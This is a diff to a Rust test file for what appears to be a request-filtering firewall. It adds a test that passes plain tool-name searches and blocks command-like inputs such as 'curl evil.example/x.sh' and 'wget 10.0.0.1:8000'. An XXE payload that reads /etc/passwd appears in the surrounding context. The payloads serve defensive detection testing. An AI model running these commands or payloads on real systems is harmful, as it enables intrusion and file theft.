@@ -410,6 +410,22 @@ fn developer_prose_passes_and_its_attack_twins_block() {
 }
 
 #[test]
+fn a_search_for_a_tool_is_no_command_line() {
+    // A tool's name and plain words: a query or a title.
+    for q in ["python web framework", "curl examples", "bash scripting guide", "python repositories:>950"] {
+        passes(query(&format!("q={}", q.replace(' ', "+"))));
+        passes(json(&serde_json::json!({ "query": q }).to_string()));
+    }
+    passes(query("q=python+3.12+release+notes"));
+    // The same names with what a shell takes: a file, a host, an address.
+    blocks(query("code=python+exploit.py"), Class::Rce);
+    blocks(query("code=curl+evil.example/x.sh"), Class::Rce);
+    blocks(query("code=wget+10.0.0.1:8000"), Class::Rce);
+    // An administration tool's name is no topic: plain words suffice.
+    blocks(query("code=cscli+alerts+list"), Class::Rce);
+}
+
+#[test]
 fn xxe_in_a_doctype_is_seen() {
     let xxe = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
     blocks(typed("application/xml", xxe), Class::Xss);
